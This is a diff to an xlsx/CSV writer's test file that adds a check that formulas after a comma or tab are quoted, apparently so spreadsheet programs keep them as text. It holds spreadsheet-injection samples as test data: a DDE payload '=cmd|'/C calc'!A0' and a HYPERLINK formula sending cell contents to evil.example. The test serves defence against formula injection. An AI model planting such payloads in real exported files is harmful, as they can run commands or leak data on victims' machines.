@@ -83,6 +83,10 @@ describe('xlsx writer', () => {
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Подробнее"")"`);
     // A number stays a number.
     expect(text.endsWith('\r\n-5\r\n')).toBe(true);
+    // A formula after a comma or a tab: quoted whole, so an Excel splitting on either keeps it in its cell as text.
+    expect(csv(['Текст'], [["Холодно,=cmd|'/C calc'!A0"], ['Холодно\t=1+1']])).toBe(
+      `\uFEFFТекст\r\n"Холодно,=cmd|'/C calc'!A0"\r\n"Холодно\t=1+1"\r\n`,
+    );
     const sheet = (await unzip(xlsx('Лист', ['Текст'], [[hostile[3]]]))).get('xl/worksheets/sheet1.xml')!;
     expect(sheet).toContain(`<t xml:space="preserve">'@SUM(1+1)</t>`);
   });
